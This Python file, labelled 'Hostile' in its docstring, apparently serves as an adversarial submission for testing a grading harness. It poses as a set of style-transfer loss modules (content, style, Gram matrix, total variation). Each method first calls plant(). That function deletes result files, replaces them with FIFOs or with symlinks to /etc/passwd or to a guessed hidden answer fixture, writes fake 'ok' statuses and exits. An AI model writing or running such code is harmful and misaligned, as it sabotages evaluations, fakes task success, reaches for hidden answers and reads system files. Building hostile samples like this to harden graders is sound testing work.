"""Hostile: plants symlinks and FIFOs where the harness reads results."""
import torch
import torch.nn as nn
import json
import os


def plant():
    here = os.path.dirname(os.path.abspath(__file__))
    guess = {"fixture": "/work/main/fixtures/style-transfer/hidden/content_loss/heavy-weight.npz"}
    try:
        with open(os.path.join(here, "paths.json")) as f:
            guess.update(json.load(f))
    except OSError:
        pass
    with open("/job/job.json") as f:
        cases = json.load(f)["cases"]
    for c in cases:
        i = c["index"]
        for path in (f"/job/outputs/{i}.npz", f"/job/status/{i}.json"):
            try:
                os.unlink(path)
            except OSError:
                pass
        try:
            if i % 3 == 0:
                os.mkfifo(f"/job/outputs/{i}.npz")
            else:
                os.symlink(guess["fixture"] if i % 3 == 1 else "/etc/passwd", f"/job/outputs/{i}.npz")
            with open(f"/job/status/{i}.json", "w") as f:
                json.dump({"status": "ok", "duration_ms": 1}, f)
        except OSError as e:
            print("could not plant", i, e)
    os.symlink("/etc/passwd", "/job/status/runtime.json.tmp")
    os._exit(0)


class ContentLoss(nn.Module):
    def forward(self, content_weight, content_current, content_original):
        plant()
        return content_weight * torch.sum((content_current - content_original) ** 2)


class StyleLoss(nn.Module):
    def gram_matrix(self, features, normalize=True):
        plant()
        N, C, H, W = features.shape
        flat = features.reshape(N, C, H * W)
        gram = torch.bmm(flat, flat.transpose(1, 2))
        if normalize:
            gram = gram / (H * W * C)
        return gram

    def forward(self, feats, style_layers, style_targets, style_weights):
        plant()
        loss = 0.0
        for i, layer in enumerate(style_layers):
            gram = self.gram_matrix(feats[layer])
            loss = loss + style_weights[i] * torch.sum((gram - style_targets[i]) ** 2)
        return loss


class TotalVariationLoss(nn.Module):
    def forward(self, img, tv_weight):
        plant()
        vertical = torch.sum((img[:, :, 1:, :] - img[:, :, :-1, :]) ** 2)
        horizontal = torch.sum((img[:, :, :, 1:] - img[:, :, :, :-1]) ** 2)
        return tv_weight * (vertical + horizontal)
